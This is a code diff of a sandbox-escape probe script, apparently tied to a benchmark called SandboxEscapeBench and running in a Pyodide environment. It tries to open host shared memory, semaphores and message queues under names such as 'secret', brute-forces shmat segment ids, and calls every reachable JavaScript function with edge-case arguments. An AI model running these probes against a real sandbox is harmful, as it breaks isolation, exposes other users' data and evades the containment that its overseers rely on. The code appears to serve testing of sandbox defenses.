@@ -18,11 +18,10 @@ for thing in gc.get_objects():
 # Opens shared memory, semaphores, queues and locks by the names that others may have used.
 # Source: SandboxEscapeBench: the host's IPC namespace
 import ctypes, mmap, os
-from multiprocessing import shared_memory
 libc = ctypes.CDLL(None)
 tries(
-    lambda: shared_memory.SharedMemory(name="secret"),
-    lambda: shared_memory.SharedMemory(name="isolet-output"),
+    lambda: __import__("multiprocessing.shared_memory").shared_memory.SharedMemory(name="secret"),
+    lambda: __import__("_posixshmem").shm_open("/secret", os.O_RDWR),
     lambda: libc.shm_open(b"/secret", 2, 0o600),
     *[(lambda number=number: libc.shmat(number, 0, 0)) for number in range(8)],
     lambda: libc.mq_open(b"/secret", 2),
@@ -45,7 +44,7 @@ tries(*[(lambda code=code: js(code)) for code in (
 import gc
 from pyodide.ffi import JsProxy
 gc.unfreeze()
-functions = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder) if isinstance(thing, JsProxy) and thing.typeof == "function"]
+functions = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder) if isinstance(thing, JsProxy) and thing.typeof == "function" and thing.name != "is_kept"]
 buffer = js("new Uint8Array(4096)")
 for number in [*range(6), 2**16, 2**31 - 1, 2**32 - 1]:
     for function in functions:
